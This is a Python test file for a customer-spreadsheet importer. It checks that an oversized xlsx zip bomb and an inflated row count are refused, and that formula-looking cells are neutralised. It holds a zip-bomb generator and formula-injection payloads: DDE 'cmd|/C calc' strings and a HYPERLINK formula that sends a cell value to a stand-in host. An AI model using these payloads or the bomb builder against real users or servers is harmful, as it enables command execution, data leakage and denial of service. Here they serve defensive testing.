"""Spreadsheets that would cost the server too much are refused with a clear message before they are read;
formula-looking cells are stored as the text they are and never run when written out again."""

from __future__ import annotations

import csv
import io
import zipfile
from pathlib import Path

import pytest
from sqlalchemy import select

from callbot.cli.customer import import_file
from callbot.customer import reader
from callbot.customer.reader import CustomerFile, SourceRow
from callbot.errors import ValidationFailed
from callbot.kit.db import Store
from callbot.kit.spreadsheet import neutralise_cell, neutralise_row
from callbot.models import Customer

from factories import Account, make_account, make_task

CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/xl/workbook.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
    '<Override PartName="/xl/worksheets/sheet1.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
    '<Override PartName="/xl/sharedStrings.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/>'
    "</Types>"
)
RELS = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
    'officeDocument" Target="xl/workbook.xml"/></Relationships>'
)
WORKBOOK = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
    'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
    '<sheets><sheet name="客户" sheetId="1" r:id="rId1"/></sheets></workbook>'
)
WORKBOOK_RELS = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" '
    'Target="worksheets/sheet1.xml"/>'
    '<Relationship Id="rId2" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/sharedStrings" '
    'Target="sharedStrings.xml"/></Relationships>'
)


def write_xlsx(path: Path, rows: list[list[str]], *, dimension: str | None = None, padding_strings: int = 0) -> Path:
    """A minimal workbook, written by hand as some tools do: text cells in shared strings, an optional
    <dimension> (which may lie), and `padding_strings` more shared strings of 1 KiB each (a zip bomb)."""
    strings: list[str] = []
    cells = []
    for r, values in enumerate(rows, start=1):
        row_cells = []
        for c, value in enumerate(values):
            strings.append(value)
            row_cells.append(f'<c r="{chr(65 + c)}{r}" t="s"><v>{len(strings) - 1}</v></c>')
        cells.append(f'<row r="{r}">{"".join(row_cells)}</row>')
    dim = f'<dimension ref="{dimension}"/>' if dimension else ""
    sheet = (
        '<?xml version="1.0" encoding="UTF-8"?>'
        f'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">{dim}'
        f"<sheetData>{''.join(cells)}</sheetData></worksheet>"
    )
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", CONTENT_TYPES)
        archive.writestr("_rels/.rels", RELS)
        archive.writestr("xl/workbook.xml", WORKBOOK)
        archive.writestr("xl/_rels/workbook.xml.rels", WORKBOOK_RELS)
        archive.writestr("xl/worksheets/sheet1.xml", sheet)
        total = len(strings) + padding_strings
        with archive.open("xl/sharedStrings.xml", "w", force_zip64=True) as out:
            out.write(
                '<?xml version="1.0" encoding="UTF-8"?><sst xmlns="http://schemas.openxmlformats.org/'
                f'spreadsheetml/2006/main" count="{total}" uniqueCount="{total}">'.encode()
            )
            for text in strings:
                out.write(f"<si><t>{text}</t></si>".encode())
            chunk = ("<si><t>" + "填" * 337 + "</t></si>").encode() * 1024  # 1 MiB
            for _ in range(padding_strings // 1024):
                out.write(chunk)
            out.write(b"</sst>")
    return path


ROWS = [["姓名", "手机号", "amount"], ["王先生", "13900001234", "100"], ["李女士", "13800138000", "200"]]


def test_a_hand_written_workbook_reads(tmp_path: Path) -> None:
    path = write_xlsx(tmp_path / "ok.xlsx", ROWS, dimension="A1:C3")
    assert [r.phone for r in CustomerFile(path)] == ["13900001234", "13800138000"]


def test_shared_strings_that_unpack_to_hundreds_of_megabytes_are_refused_unread(tmp_path: Path) -> None:
    path = write_xlsx(tmp_path / "bomb.xlsx", ROWS, padding_strings=400 * 1024)  # 400 MiB of shared strings
    assert path.stat().st_size < 4 << 20
    with pytest.raises(ValidationFailed) as caught:
        list(CustomerFile(path))
    assert "shared strings (the texts of its cells) would unpack to 401 MB" in caught.value.message
    assert "CSV" in caught.value.problems[0][1]


def test_a_sheet_declaring_more_rows_than_excel_holds_is_refused(tmp_path: Path) -> None:
    path = write_xlsx(tmp_path / "tall.xlsx", ROWS, dimension="A1:C2000000")
    with pytest.raises(ValidationFailed) as caught:
        list(CustomerFile(path))
    assert "2,000,000 rows" in caught.value.message and "1,048,576" in caught.value.message


def test_rows_past_an_understated_dimension_are_read_and_counted(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    rows = [*ROWS, ["赵先生", "13700137000", "300", "多余"]]
    path = write_xlsx(tmp_path / "short.xlsx", rows, dimension="A1:B2")  # says two rows, two columns
    read = list(CustomerFile(path))
    assert [(r.row, r.phone, r.properties, r.problem and r.problem.reason) for r in read] == [
        (1, "13900001234", {"amount": "100"}, None),
        (2, "13800138000", {"amount": "200"}, None),
        (3, "13700137000", {}, "extra_columns"),
    ]
    monkeypatch.setattr(reader, "MAX_XLSX_ROWS", 3)  # the header and two customers
    with pytest.raises(ValidationFailed, match="4 rows"):
        list(CustomerFile(path))


def test_formula_cells_are_neutralised_for_spreadsheets() -> None:
    assert (
        neutralise_cell('=HYPERLINK("http://x.example/?"&A1,"点我")') == '\'=HYPERLINK("http://x.example/?"&A1,"点我")'
    )
    for risky in ("+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1"):
        assert neutralise_cell(risky) == "'" + risky
    for safe in ("王先生", "13900001234", "-12.5", "+86", "3200", "", "a=b", 42, None):
        assert neutralise_cell(safe) == safe
    out = io.StringIO()
    csv.writer(out).writerow(neutralise_row(["=1+1", "王先生", -5]))
    assert out.getvalue() == "'=1+1,王先生,-5\r\n"


async def test_formula_looking_cells_are_stored_as_the_text_they_are(tmp_path: Path, store: Store) -> None:
    account: Account = await make_account(store)
    task_id = await make_task(store, account)
    xlsx = [["姓名", "手机号", "amount", "备注"], ["=1+1", "13900001234", "100", '@SUM(1+1)*cmd|" /C calc"!A0']]
    xlsx_path = write_xlsx(tmp_path / "formulas.xlsx", xlsx)  # text cells that look like formulas
    csv_path = tmp_path / "formulas.csv"
    csv_path.write_text('姓名,手机号,amount,备注\n"=HYPERLINK(""http://x.example"")",13800138000,1,-1+1\n')
    assert list(CustomerFile(csv_path)) == [
        SourceRow(1, '=HYPERLINK("http://x.example")', "13800138000", {"amount": "1", "备注": "-1+1"})
    ]
    for path in (xlsx_path, csv_path):
        await import_file(store, account.tenant.name, task_id, path, progress=False)
    async with store.transaction() as tx:
        stored = (await tx.session.scalars(select(Customer).where(Customer.task_id == task_id))).all()
    assert [(c.name, c.properties["备注"]) for c in stored] == [
        ("=1+1", '@SUM(1+1)*cmd|" /C calc"!A0'),
        ('=HYPERLINK("http://x.example")', "-1+1"),
    ]
